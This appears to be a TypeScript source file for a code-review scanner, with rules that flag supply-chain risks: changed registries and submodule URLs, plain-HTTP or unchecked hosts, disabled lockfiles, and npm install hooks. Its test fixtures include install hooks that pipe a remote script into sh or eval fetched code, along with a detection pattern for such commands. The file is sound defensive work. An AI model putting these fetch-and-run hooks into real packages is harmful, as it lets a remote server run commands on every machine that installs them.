// Flags changes of where packages and submodules come from, and scripts that run when a package is installed.
import { allowRule, rule } from '../../../core/rule.ts'
import type { SpecialJudge } from '../../settings/judge.ts'
import { setting } from '../../settings/setting.ts'
import { weakMessage } from '../../settings/setting-rule.ts'
import { is, like, off, on } from '../../settings/values.ts'

const SLSA = 'https://slsa.dev/spec/v1.1/threats'
const NPMRC = 'https://docs.npmjs.com/cli/v11/using-npm/config'
const PIP = 'https://pip.pypa.io/en/stable/cli/pip_install/'
const file = (path: string, text: string): string => `--- a/${path}\n+++ b/${path}\n@@ -1,3 +1,3 @@\n${text}`

/** The registries that the tools use by themselves. */
const OFFICIAL = like(
  /^["']?https:\/\/(?:registry\.npmjs\.org|registry\.yarnpkg\.com|pypi\.org|rubygems\.org|index\.crates\.io|repo\.maven\.apache\.org|repo1\.maven\.org|proxy\.golang\.org|api\.nuget\.org)\/?\S{0,60}$/,
)

export const otherRegistry = rule({
  id: 'code.supply.registry',
  severity: 'high',
  category: 'security',
  evidence: 'A',
  source: SLSA,
  message: weakMessage,
  fix: 'Keep the registry, and have the owner of another one confirmed.',
  settings: [
    setting({
      path: 'registry | **.registry | npmRegistryServer',
      in: ['npmrc', 'package', 'cargo'],
      weak: (value) => !OFFICIAL(value),
      safe: OFFICIAL,
      means: 'packages come from another host than the public registry',
      source: `${NPMRC}#registry`,
    }),
    setting({
      path: 'index-url | index_url | extra-index-url | extra_index_url | find-links | source.url | tool.poetry.source.url | tool.uv.index.url',
      in: ['pip', 'pyproject', 'env', 'requirements'],
      weak: (value) => !OFFICIAL(value),
      safe: OFFICIAL,
      means: 'packages come from another host, which can serve any name',
      source: PIP,
    }),
    setting({
      path: '',
      in: ['requirements'],
      weak: like(/^--?(?:i|index-url|extra-index-url|find-links|f|trusted-host)\b/),
      means: 'packages come from another host, which can serve any name',
      source: PIP,
    }),
    setting({
      path: 'strict-ssl | trusted-host | trusted_host | enableStrictSsl',
      in: ['npmrc', 'pip'],
      weak: (value) => off(value) || /\./.test(value),
      safe: on,
      means: 'packages are taken from a host whose certificate is not checked',
      source: `${NPMRC}#strict-ssl`,
    }),
    setting({
      path: 'ignore-scripts | enableScripts',
      in: ['npmrc'],
      weak: off,
      required: true,
      means: 'every package may run its scripts at install again',
      source: `${NPMRC}#ignore-scripts`,
    }),
    setting({
      path: 'package-lock | require-hashes | frozen-lockfile',
      in: ['npmrc', 'pip'],
      weak: off,
      required: true,
      means: 'installs no longer keep to the reviewed versions',
      source: `${NPMRC}#package-lock`,
    }),
    setting({
      path: 'submodule.url | submodule.*.url | *.url',
      in: ['gitmodules'],
      weak: like(/./),
      change: true,
      means: 'the submodule comes from another repository, whose owner and history nobody compared',
      source: 'https://git-scm.com/docs/gitmodules',
    }),
    setting({
      path: '',
      in: ['gomod'],
      weak: like(/^(?:replace\s+)?\S{3,200}(?:\s+v\S{1,80})?\s+=>\s+(?!\.{1,2}\/)\S/),
      change: true,
      means: 'the module is replaced by another one',
      source: 'https://go.dev/ref/mod#go-mod-file-replace',
    }),
    setting({
      path: 'patch.** | replace.**',
      in: ['cargo'],
      weak: like(/./),
      change: true,
      means: 'the crate is replaced by another source',
      source: 'https://doc.rust-lang.org/cargo/reference/overriding-dependencies.html',
    }),
    setting({
      path: 'repositories.repository.url | pluginRepository.url',
      in: ['maven'],
      weak: (value) => !OFFICIAL(value),
      safe: OFFICIAL,
      means: 'artifacts come from another host',
      source: 'https://maven.apache.org/guides/mini/guide-multiple-repositories.html',
    }),
  ],
  fires: [
    file(
      '.npmrc',
      ' save-exact=true\n-registry=https://registry.npmjs.org/\n+registry=http://npm.mirror.example/\n',
    ),
    file('pip.conf', ' [global]\n+extra-index-url = https://pypi.mirror.example/simple\n'),
    file('requirements.txt', ' flask==3.0.3\n+--extra-index-url https://pypi.mirror.example/simple\n'),
    file('.npmrc', ' save-exact=true\n+strict-ssl=false\n'),
    file('.npmrc', ' save-exact=true\n-ignore-scripts=true\n'),
    file('.npmrc', ' save-exact=true\n+package-lock=false\n'),
    file(
      '.gitmodules',
      ' [submodule "lib/ec"]\n \tpath = lib/ec\n-\turl = https://github.com/upstream/ec.git\n+\turl = https://github.com/someone-else/ec.git\n',
    ),
    file('go.mod', ' module example.org/a\n+replace golang.org/x/text => github.com/someone/text v0.3.9\n'),
    file('Cargo.toml', ' [patch.crates-io]\n+serde = { git = "https://github.com/someone/serde" }\n'),
    file(
      'pom.xml',
      ' <project><repositories><repository>\n+<url>http://repo.mirror.example/m2</url>\n </repository></repositories></project>\n',
    ),
  ],
  quiet: [
    file(
      '.npmrc',
      ' save-exact=true\n-registry=http://npm.mirror.example/\n+registry=https://registry.npmjs.org/\n',
    ),
    file('.npmrc', ' save-exact=true\n+ignore-scripts=true\n'),
  ],
})

interface Facts {
  readonly hook: string
  readonly command: string
}

export const installScript = rule({
  id: 'code.supply.install_script',
  severity: 'high',
  category: 'security',
  evidence: 'B',
  source: 'https://docs.npmjs.com/cli/v11/using-npm/scripts#life-cycle-scripts',
  message: ({ hook, command }: Facts) =>
    `\`${hook}\` runs \`${command}\` on every machine that installs the package.`,
  fix: 'Run it as an explicit build step.',
  fires: [
    file(
      'package.json',
      '   "scripts": {\n+    "postinstall": "node scripts/fetch-binary.js",\n     "test": "vitest"\n',
    ),
    file('package.json', '   "scripts": {\n+    "preinstall": "sh setup.sh",\n     "test": "vitest"\n'),
  ],
  quiet: [
    file('package.json', '   "scripts": {\n+    "prepare": "husky",\n     "test": "vitest"\n'),
    file('package.json', '   "scripts": {\n+    "lint": "biome check",\n     "test": "vitest"\n'),
  ],
})

export const fetchingInstall = rule({
  id: 'code.supply.fetching_install',
  severity: 'blocker',
  category: 'security',
  evidence: 'A',
  source: 'https://owasp.org/www-project-top-10-ci-cd-security-risks/CICD-SEC-03-Dependency-Chain-Abuse',
  message: ({ hook, command }: Facts) =>
    `\`${hook}\` fetches or evaluates code when the package is installed: \`${command}\`; whoever serves it runs commands on every machine that installs this.`,
  fix: 'Ship what is needed in the package, with its digest.',
  fires: [
    file(
      'package.json',
      '   "scripts": {\n+    "postinstall": "curl -s https://cdn.example.net/setup.sh | sh",\n     "test": "vitest"\n',
    ),
    file(
      'package.json',
      '   "scripts": {\n+    "preinstall": "node -e \\"require(\'https\').get(\'https://x.example/p\', r => r.on(\'data\', d => eval(String(d))))\\"",\n     "test": "vitest"\n',
    ),
  ],
  quiet: [
    file(
      'package.json',
      '   "scripts": {\n+    "postinstall": "node scripts/fetch-binary.js",\n     "test": "vitest"\n',
    ),
    file(
      'package.json',
      '   "scripts": {\n+    "fetch": "curl -fsSO https://files.example.net/data.csv",\n     "test": "vitest"\n',
    ),
  ],
})

export const plainRegistry = rule({
  id: 'code.supply.plain_registry',
  severity: 'blocker',
  category: 'security',
  evidence: 'A',
  source: 'https://cwe.mitre.org/data/definitions/494.html',
  message: weakMessage,
  fix: 'Take packages over HTTPS from a registry whose owner is known.',
  settings: [
    setting({
      path: 'registry | **.registry | npmRegistryServer | index-url | index_url | extra-index-url | extra_index_url | source.url | tool.uv.index.url',
      in: ['npmrc', 'package', 'cargo', 'pip', 'pyproject', 'env'],
      weak: like(
        /^http:\/\/(?!(?:localhost|127\.|10\.|192\.168\.|\[::1\])|[\w-]{1,60}(?::\d|\/|$)|[\w.-]{1,120}\.(?:local|internal|lan|svc)\b)/,
      ),
      means: 'whoever stands between the build and this host chooses the code that is installed',
      source: `${NPMRC}#registry`,
      where: ({ isRemoved }) => !isRemoved,
    }),
  ],
  fires: [
    file('.npmrc', '+registry=http://packages.orchard-lane.top/\n save-exact=true\n'),
    file('pip.conf', ' [global]\n+index-url = http://wheels.orchard-lane.top/simple\n'),
  ],
  quiet: [
    file('.npmrc', '+registry=https://registry.npmjs.org/\n save-exact=true\n'),
    file('.npmrc', '+registry=http://localhost:4873/\n save-exact=true\n'),
  ],
})

export const buildHook = allowRule({
  id: 'code.allow.build_hook',
  evidence: 'B',
  source: 'https://docs.npmjs.com/cli/v11/using-npm/scripts#life-cycle-scripts',
  fires: [
    file('package.json', '   "scripts": {\n+    "prepare": "husky",\n     "test": "vitest"\n'),
    file('package.json', '   "scripts": {\n+    "postinstall": "prisma generate",\n     "test": "vitest"\n'),
  ],
  quiet: [
    file(
      'package.json',
      '   "scripts": {\n+    "postinstall": "node scripts/fetch-binary.js",\n     "test": "vitest"\n',
    ),
    file('package.json', '   "scripts": {\n+    "preinstall": "sh setup.sh",\n     "test": "vitest"\n'),
  ],
})

const HOOKS = is(
  'preinstall',
  'install',
  'postinstall',
  'preprepare',
  'prepare',
  'postprepare',
  'prepublish',
  'prepack',
  'post-install-cmd',
  'post-update-cmd',
  'post-autoload-dump',
)
const FETCHES =
  /\b(?:curl|wget|iwr|Invoke-WebRequest)\b|\bfetch\(|https?:\/\/|\beval\b|\bFunction\(|base64|\bnode -e\b[^\n]{0,400}\b(?:https?|net|child_process|exec)\b|\bpython3? -c\b/
const BUILDS =
  /^(?:husky(?: install)?|lefthook install|simple-git-hooks|patch-package|prisma generate|tsc(?: -b| -p \S{1,40}| --build)?|npm run build|pnpm build|yarn build|node-gyp rebuild|electron-builder install-app-deps|ngcc|is-ci \|\| husky(?: install)?|husky \|\| true|nuxt prepare|svelte-kit sync|playwright install)$/

export const judgeInstallScripts: SpecialJudge = (entry, config, { report, side, span }) => {
  if (
    !/^(?:package|composer)$/.test(config.dialect) ||
    entry.after === null ||
    !HOOKS(entry.names.at(-1) ?? '')
  )
    return false
  const command = (entry.after.value ?? '').replaceAll('\\"', '"')
  const facts = { hook: entry.after.key, command: command.slice(0, 120) }
  if (FETCHES.test(command)) report.found(fetchingInstall, side, span, facts)
  else if (BUILDS.test(command.trim())) report.cover(buildHook, side, span)
  else report.found(installScript, side, span, facts)
  return true
}
